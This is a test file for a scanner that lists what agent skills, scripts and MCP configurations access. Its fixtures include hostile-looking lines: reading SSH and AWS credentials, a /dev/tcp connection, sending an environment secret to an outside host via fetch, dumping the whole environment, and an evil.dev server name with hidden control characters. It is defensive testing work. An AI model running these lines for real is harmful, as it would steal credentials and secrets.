import { accessKinds, type Access } from '@skillstead/protocol'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readAccess } from '@skillstead/scanner/rules'
import { addsAccess, findWidening, subtractAccess } from '../../packages/scanner/src/access/compare-access.ts'

const of = (path: string, text: string) => readAccess([{ path, bytes: Buffer.from(text) }])
/** The non-empty lists of an access. */
const listed = (access: Access) => Object.fromEntries(Object.entries(access).filter(([, list]) => list.length > 0))
const shell = (script: string) => listed(of('scripts/a.sh', script))
const python = (code: string) => listed(of('a.py', code))
const script = (code: string) => listed(of('a.mjs', code))
const skill = (body: string, head = '') => listed(of('SKILL.md', `---\nname: me\n${head}---\n${body}`))
const fence = (language: string, code: string) => skill(`\`\`\`${language}\n${code}\n\`\`\`\n`)

describe('what a shell script uses', () => {
  const commands: [script: string, commands: string[]][] = [
    ['git status && jq . < x | sort > y; wc -l "a b"', ['git', 'jq', 'sort', 'wc']],
    ['/usr/bin/python3 scripts/x.py; ./own.sh; scripts/own.py; "$DIR/own"', ['python3']],
    ['if ! which jq >/dev/null 2>&1; then sudo -u root make all; fi', ['make', 'sudo', 'which']],
    ['for f in *.md; do cat "$f"; done', ['cat']],
    ['while read -r line; do echo "$line"; done; cd x; true', []],
    ['case "$1" in\n  start|stop) systemctl "$1" ;;\n  *) exit 1 ;;\nesac', ['systemctl']],
    ['helper() { tar xf "$1"; }\nhelper a', ['tar']],
    ['list=(git curl)\nfind . -name "*.tmp" -exec ls {} + -exec stat {} \\;', ['find', 'ls', 'stat']],
    ['X=$(git rev-parse HEAD) Y=`hostname` make; [[ -f a && -f b || -n c ]]', ['git', 'hostname', 'make']],
    ['bash -c "wget x && tar xf x"; eval "$(dig x)"', ['bash', 'dig', 'tar', 'wget']],
    ['echo "it is $(whoami)" # and $(not-this)', ['whoami']],
    ["echo 'not $(this)' $((1 + 2)) and |", []],
    ['timeout 5 env A=1 xargs -n 1 rm', ['env', 'rm', 'timeout', 'xargs']],
    ['cat <<END\nnot-this | nor-this\nEND\nls', ['cat', 'ls']],
    ['sh <<-END\n\tinside x\n\tEND\n', ['inside', 'sh']],
    ['make \\\n  all', ['make']],
    ["it's unclosed; ls", ['ls']],
    ['git log --format=on|off', ['git']],
    ['op run -- terraform apply', ['op', 'terraform']],
  ]
  it.each(commands)('%s runs %j', (text, expected) => {
    expect(shell(text).commands ?? []).toEqual(expected)
  })

  const hosts: [script: string, hosts: string[]][] = [
    ['curl -H "X: https://a.dev" wttr.in/London https://b.dev:8443/x', ['a.dev', 'b.dev', 'wttr.in']],
    ['curl -o page.html http://127.0.0.1:3000 https://me:pw@c.dev', ['c.dev', 'localhost']],
    ['ssh me@d.dev; scp x me@e.dev:/y; exec 3<>/dev/tcp/10.0.0.1/80', ['10.0.0.1', 'd.dev', 'e.dev']],
    ['curl https://example.com https://a.test https://$HOST/x', []],
    ['curl https://your-domain.com', ['your-domain.com']],
    [
      'curl https://a.b.c.d.e.f.g.h.i.j.k.dev; ssh me@1.2.3.4.5.6.7.8.9.l.dev',
      ['1.2.3.4.5.6.7.8.9.l.dev', 'a.b.c.d.e.f.g.h.i.j.k.dev'],
    ],
    ['# see https://docs.dev\ngrep https://f.dev x', []],
  ]
  it.each(hosts)('%s contacts %j', (text, expected) => {
    expect(shell(text).hosts ?? []).toEqual(expected)
  })

  const variables: [script: string, variables: string[]][] = [
    ['echo "$TOKEN" ${REGION:-eu} \'$QUOTED\' $lower $1 $PATH', ['REGION', 'TOKEN']],
    ['NAME=x; echo $NAME; read -r LINE; echo $LINE; for F in a; do echo $F; done', []],
    ['export API_KEY=...\nlocal OWN=1; echo $OWN', ['API_KEY']],
    ['SELF="${SELF:-x}"', ['SELF']],
    ['printenv', ['*']],
    ['env | sort', ['*']],
  ]
  it.each(variables)('%s reads %j', (text, expected) => {
    expect(shell(text).environment ?? []).toEqual(expected)
  })

  const files: [script: string, files: string[]][] = [
    ['cat ~/.ssh/id_rsa "$HOME/.config/gh/hosts.yml" /etc/cron.d/x', ['/etc/cron.d', '~/.config/gh', '~/.ssh']],
    ['cp /tmp/a/b /Users/anna/.aws/credentials; x > /dev/null', ['/tmp', '~/.aws']],
    ['source .env; cat .env.example; cp x .git/hooks/pre-commit; >> CLAUDE.md', ['.env', '.git/hooks', 'CLAUDE.md']],
    ['curl https://x.dev/etc/passwd; ls ./var/lib; echo a/tmp/b', []],
  ]
  it.each(files)('%s accesses %j', (text, expected) => {
    expect(shell(text).files ?? []).toEqual(expected)
  })

  const projectFiles =
    '.env .npmrc .pypirc .netrc .mcp.json .gitconfig .cursorrules .git/config .github/workflows .husky .vscode ' +
    '.cursor/rules .claude/settings.json CLAUDE.md CLAUDE.local.md AGENTS.md GEMINI.md SOUL.md MEMORY.md'
  it.each(projectFiles.split(' '))('includes only the project file %s if a command names no other file', (path) => {
    const [file = 'none', ...others] = shell(`cat ${path}`).files ?? []
    expect([path.startsWith(file), others]).toEqual([true, []])
  })
})

describe('the packages of a command', () => {
  const packages: [command: string, packages: string[]][] = [
    ['npm i -g left-pad@1.3.0 @scope/Tool', ['npm:@scope/Tool', 'npm:left-pad']],
    ['npx -y @scope/tool@latest --flag arg', ['npm:@scope/tool']],
    ['npx --package typescript tsc', ['npm:typescript']],
    ['pip3 install -r requirements.txt "Foo_Bar[extra]>=1" baz.whl .', ['pypi:foo-bar']],
    ['python -m pip install --upgrade httpx', ['pypi:httpx']],
    ['uvx --from some pkg; uv pip install ruff==0.1', ['pypi:ruff', 'pypi:some']],
    ['pipx run black x.py', ['pypi:black']],
    ['sudo apt-get install -y jq=1.6', ['apt:jq']],
    ['brew install owner/tap/tool', ['brew:owner/tap/tool']],
    ['cargo install ripgrep; gem install rake', ['cargo:ripgrep', 'gem:rake']],
    ['go install github.com/a/b/cmd@latest', ['go:github.com/a/b/cmd']],
    ['docker run --rm -p 80:80 -v a:b ghcr.io/o/i:1 sh', ['docker:ghcr.io/o/i']],
    ['npx -y my-tool', ['npm:my-tool']],
    ['npm install', []],
    ['npm install <package>', []],
    ['npm run build', []],
  ]
  it.each(packages)('%s: %j', (text, expected) => {
    expect(shell(text).packages ?? []).toEqual(expected)
  })
})

describe('what a program uses', () => {
  it('includes what Python runs, reads and contacts, not its comments', () => {
    const code = [
      '"""See https://docs.dev."""',
      '# https://comment.dev',
      'URL = "https://api.dev/v1"',
      'key = os.environ["KEY_A"]; other = os.getenv("KEY_B", "x"); os.environ["KEY_C"] = "set"',
      'subprocess.run(["git", "clone", "https://github.com/a/b"])',
      'subprocess.check_output(f"ffmpeg -i {x} | tee log", shell=True)',
      'cmd = ["docker", "run", "alpine"]',
      "os.system('pip install evil')",
      'open(os.path.expanduser("~/.netrc")); Path.home() / ".ssh"',
      'def f():',
      '    """Use curl https://help.dev"""',
    ].join('\n')
    expect(python(code)).toEqual({
      commands: ['docker', 'ffmpeg', 'git', 'pip', 'tee'],
      hosts: ['api.dev', 'github.com'],
      environment: ['KEY_A', 'KEY_B'],
      packages: ['docker:alpine', 'pypi:evil'],
      files: ['~/.netrc', '~/.ssh'],
    })
  })

  it('includes what JavaScript runs, reads and contacts', () => {
    const code = [
      '// https://comment.dev',
      'const { KEY_A, KEY_B: b } = process.env',
      'exec(`gh pr view ${n}`); execFile("rsync", ["-a", "x", "me@backup.dev:/y"])',
      'pattern.exec("never run"); await fetch("https://hook.dev?k=" + process.env.KEY_C)',
      'await $`zstd -d x`; new Deno.Command("deno"); Deno.env.get("KEY_D")',
      'join(homedir(), ".aws/credentials")',
    ].join('\n')
    expect(script(code)).toEqual({
      commands: ['deno', 'gh', 'rsync', 'zstd'],
      hosts: ['backup.dev', 'hook.dev'],
      environment: ['KEY_A', 'KEY_B', 'KEY_C', 'KEY_D'],
      files: ['~/.aws'],
    })
  })

  it('includes all environment variables if a program reads the whole environment', () => {
    expect(python('json.dumps(dict(os.environ))')).toEqual({ environment: ['*'] })
    expect(script('send(JSON.stringify(process.env))')).toEqual({ environment: ['*'] })
  })

  it('includes inline metadata (PEP 723) and manifests', () => {
    expect(python('# /// script\n# dependencies = [\n#   "rich",\n#   "httpx[http2]>=1",\n# ]\n# ///\n')).toEqual({
      packages: ['pypi:httpx', 'pypi:rich'],
    })
    const files = {
      'package.json': '{"dependencies":{"zod":"1"},"devDependencies":{"@types/node":"1"}}',
      'requirements-dev.txt': '# tests\n-r other.txt\npytest>=8 # runner\n',
      'pyproject.toml': '[project]\ndependencies = ["click", "rich>=1"]\n',
      '.mcp.json':
        '{"mcpServers":{"a":{"command":"npx","args":["-y","@mcp/a"],"env":{"A_KEY":"x"}},"b":{"url":"https://b.dev"}}}',
    }
    expect(
      listed(readAccess(Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) })))),
    ).toEqual({
      commands: ['npx'],
      hosts: ['b.dev'],
      environment: ['A_KEY'],
      packages: ['npm:@mcp/a', 'npm:@types/node', 'npm:zod', 'pypi:click', 'pypi:pytest', 'pypi:rich'],
    })
  })

  it('includes the servers of an mcp.json, with what each starts or contacts', () => {
    const host = `${'a-long-name-of-a-host.'.repeat(3)}evil.dev`
    const mcpServers = {
      tickets: { type: 'stdio', command: './bin/server', env: { A_KEY: 'x' } },
      runner: { type: 'stdio', command: 'npx', args: ['-y', '@acme/run'] },
      api: { type: 'streamable-http', url: 'https://me:pw@api.acme.dev:8443/mcp' },
      far: { type: 'sse', url: `https://${host}/` },
      ['a\u202E\n(stdio git)'.repeat(9)]: { type: 'stdio', command: 'x\u001b[2K' },
      none: 'text',
    }
    const { tools, hosts, packages, environment } = of('mcp.json', JSON.stringify({ mcpServers }))
    expect(tools.filter((tool) => !tool.startsWith('mcp__a '))).toEqual([
      'mcp__api (streamable-http api.acme.dev:8443)',
      expect.stringMatching(/^mcp__far \(sse ….*evil\.dev\)$/),
      'mcp__runner (stdio npx -y @acme/run)',
      'mcp__tickets (stdio ./bin/server; env A_KEY)',
    ])
    // oxlint-disable-next-line no-control-regex
    for (const tool of tools) expect(tool).toMatch(/^[^\0-\x1f\u202e]{1,100}$/)
    expect(hosts).toEqual([host, 'api.acme.dev'])
    expect([...packages, ...environment]).toEqual(['npm:@acme/run', 'A_KEY'])
    expect(of('docs/mcp.json', JSON.stringify({ mcpServers })).tools).toEqual([])
    for (const text of ['', '[]', '{"mcpServers":[1]}', '{"mcpServers":{"a":[]}}', '['.repeat(5000)])
      expect(of('mcp.json', text).tools).toEqual([])
  })

  it('is found in scripts without an extension, in the language that their first line names', () => {
    expect(listed(of('bin/run', '#!/usr/bin/env bash\ngit push\n'))).toEqual({ commands: ['git'] })
    expect(listed(of('bin/run', '#!/usr/bin/env python3\nos.system("git push")\n'))).toEqual({ commands: ['git'] })
    expect(listed(of('data.csv', 'git push https://x.dev\n'))).toEqual({})
  })
})

describe('what instructions use', () => {
  it('includes what the frontmatter requests, verbatim', () => {
    const given = ['Bash(git:*)', 'Read', 'mcp__hub__search']
    const forms = ['Bash(git:*) Read mcp__hub__search', 'Bash(git:*), Read, mcp__hub__search', JSON.stringify(given)]
    for (const form of forms) expect(skill('', `allowed-tools: ${form}\n`)).toEqual({ tools: given, commands: ['git'] })
    const required = 'metadata: {"host":{"requires":{"bins":["yq"],"env":["Q_KEY"]}}}\n'
    expect(skill('', required)).toEqual({ commands: ['yq'], environment: ['Q_KEY'] })
  })

  it('includes what code blocks do, by language', () => {
    expect(fence('bash', '$ npm i -g tool\nadded 1 package\n$ export A_KEY=x')).toEqual({
      commands: ['npm'],
      environment: ['A_KEY'],
      packages: ['npm:tool'],
    })
    expect(fence('', 'git push origin\nsome words here\n  src/\n')).toEqual({ commands: ['git'] })
    expect(fence('json', '{"id": 1, "link": "https://data.dev"}')).toEqual({})
    expect(fence('env', 'A_KEY=...\n')).toEqual({ environment: ['A_KEY'] })
    expect(fence('http', 'GET https://api.dev/v1\n')).toEqual({ hosts: ['api.dev'] })
    expect(fence('markdown', 'Run `git push`. https://x.dev')).toEqual({})
    expect(fence('dockerfile', 'FROM alpine:3\nRUN apk add curl\n')).toEqual({
      commands: ['apk'],
      packages: ['apk:curl', 'docker:alpine'],
    })
  })

  it('includes what sentences instruct, not what they only mention', () => {
    expect(skill('See [docs](https://docs.dev/api) and https://more.dev.\n')).toEqual({})
    expect(skill('Send a request to https://api.dev/v1.\n')).toEqual({ hosts: ['api.dev'] })
    expect(skill('Use the WebFetch tool, or `Read`; `mcp__hub__list` lists.\n')).toEqual({
      tools: ['Read', 'WebFetch', 'mcp__hub__list'],
    })
    expect(skill('Set `SOME_API_KEY`, run `gh pr list`, and edit `~/.config/gh/x` and AGENTS.md.\n')).toEqual({
      commands: ['gh'],
      environment: ['SOME_API_KEY'],
      files: ['AGENTS.md', '~/.config/gh'],
    })
    expect(skill('It lies in ~/.claude/skills/me/data.\n')).toEqual({})
  })

  it('excludes what sentences prohibit', () => {
    expect(skill('Never run `rm -rf ~/x`. Run `gh pr list`.\n')).toEqual({ commands: ['gh'] })
    expect(skill("Don't do this:\n\n```bash\nnmap 1.2.3.4\n```\n")).toEqual({})
    expect(skill('## Anti-patterns\n\n```bash\nnmap 1.2.3.4\n```\n\n## Use\n\n```bash\nls\n```\n')).toEqual({
      commands: ['ls'],
    })
    expect(fence('bash', '# ❌ Wrong\nnmap x\n# Right\nls\n')).toEqual({ commands: ['ls'] })
    expect(skill("Don't forget to run `gh pr list`.\n")).toEqual({ commands: ['gh'] })
  })
})

/** A script that requests a number of hosts. */
const urls = (count: number) => Array.from({ length: count }, (_, i) => `curl https://h${i}.dev`).join('\n')

describe('lines of instructions', () => {
  const lines = [
    'Words alone, and/or words, of about 5 lines.',
    'Set `API_KEY` and $HOME/.aws, or ~/.netrc.',
    'Run `git push` with the Read tool',
    'Send it to https://a.io/x, see CLAUDE.md',
    'Never use `rm -rf x`. Look into /etc/ssh/config.',
    'Ask mcp__files__read for /Users/me/.ssh/id',
    'It is in homedir(), ".cargo" / x',
    '# A heading with `rm x`',
    'Then:\n```sh\ncurl b.io\n# `~/.x`\n```',
    'Or:\n~~~\n```\nnpm install c\n~~~',
    '\r',
    '',
  ]

  it('that are joined in any order have exactly the combined access of the single lines', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...lines)), (some) => {
        const alone = some.map((line) => of('a.md', line))
        const together = of('a.md', some.join('\n'))
        for (const kind of accessKinds) {
          const all = new Set(alone.flatMap((access) => access[kind]))
          expect(together[kind]).toEqual([...all].toSorted())
        }
      }),
    )
  })
})

describe('content that exceeds a limit of the access lists', () => {
  it('is reported with the digest of the omitted part', () => {
    const access = of('a.sh', urls(120))
    expect(access.hosts).toHaveLength(100)
    expect(access.cut).toEqual([expect.stringMatching(/^hosts: 20 more are not listed \(sha256:[0-9a-f]{12}\)$/)])
    expect(of('a.sh', urls(5000)).cut).toHaveLength(1)
    const large = of('a.sh', `${'#'.repeat(300_000)}\ngit push`)
    expect(large.commands).toEqual([])
    expect(large.cut).toEqual([expect.stringMatching(/^a\.sh: the last 37865 bytes were not read \(sha256:/)])
  })

  it('cannot hide an added item', () => {
    const before = of('a.sh', urls(120))
    const after = of('a.sh', `${urls(119)}\ncurl https://zzz.dev`)
    expect(subtractAccess(after, before).hosts).not.toContain('zzz.dev')
    expect(addsAccess(subtractAccess(after, before))).toBe(true)
    const many = of('a.sh', `${urls(3000)}\ncurl https://zzz.dev`)
    expect(subtractAccess(many, of('a.sh', urls(3001))).cut).toHaveLength(1)
  })

  it('includes deeply nested JSON, ignoring brackets in strings', () => {
    const deep = (level: string) => of('package.json', level.repeat(5000))
    for (const level of ['{"a":[],"x":', '["}}]]\\"",', '[']) expect(deep(level).cut).toHaveLength(1)
    expect(of('package.json', '{"dependencies":{"[[[[":"1","zod":"[[["}}').packages).toEqual(['npm:zod'])
  })

  it('is reported in a limited number of lines, even if every file is large', () => {
    const files = Array.from({ length: 60 }, (_, i) => ({ path: `f${i}.sh`, bytes: Buffer.alloc(262_145, 'a b\n') }))
    expect(readAccess(files).cut).toHaveLength(21)
  })
})

describe('the difference between two versions', () => {
  const git = of('a.sh', 'git push')
  const more = of('a.sh', 'git push; curl https://a.dev')

  it('is wider access if something was added, and is marked if the newer version is a patch release', () => {
    expect(listed(subtractAccess(more, git))).toEqual({ commands: ['curl'], hosts: ['a.dev'] })
    expect(listed(subtractAccess(git, more))).toEqual({})
    const widening = (from: string, to: string, after = more) =>
      findWidening({ version: from, access: git }, { version: to, access: after })
    expect(widening('1.0.0', '1.0.1')).toMatchObject({ since: '1.0.0', patch: true, added: { hosts: ['a.dev'] } })
    expect(widening('1.0.9', '1.1.0')).toMatchObject({ patch: false })
    expect(widening('1.0.0', '2.0.0')).toMatchObject({ patch: false })
    expect(widening('1.0.0', '1.0.1', git)).toBeNull()
  })
})

describe('the access of any text', () => {
  const pieces = [
    ...'"\'`(){}\\|;\n\0\ud800❌',
    ...(
      '$(¦((¦<<E\n¦\nE\n¦```bash\n¦```\n¦&&¦case x in ¦a|b)¦bash -c "¦exec("¦---\n¦https://a.dev/¦$HOME/¦~/.¦' +
      'cmd = ["¦find . -exec ¦npx -p ¦export A=¦${A:-¦process.env.A'
    ).split('¦'),
  ]
  const piece = fc.oneof(fc.string({ unit: 'binary', maxLength: 20 }), fc.constantFrom(...pieces))
  const paths = ['SKILL.md', 'a.sh', 'a.py', 'a.ts', 'a.rb', 'Dockerfile', 'package.json', 'pyproject.toml', 'run']

  it('has sorted, limited and deterministic lists', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.constantFrom(...paths), (some, path) => {
        const text = some.join('')
        const access = of(path, text)
        for (const kind of accessKinds) {
          expect(access[kind]).toEqual([...new Set(access[kind])].toSorted())
          expect(access[kind].length).toBeLessThanOrEqual(100)
          for (const item of access[kind]) expect(item).toMatch(/^[^\p{C}\r\n]{1,106}$/u)
        }
        expect(of(path, text)).toEqual(access)
        expect(addsAccess(subtractAccess(access, access))).toBe(false)
      }),
      { numRuns: 1500 },
    )
  })
})
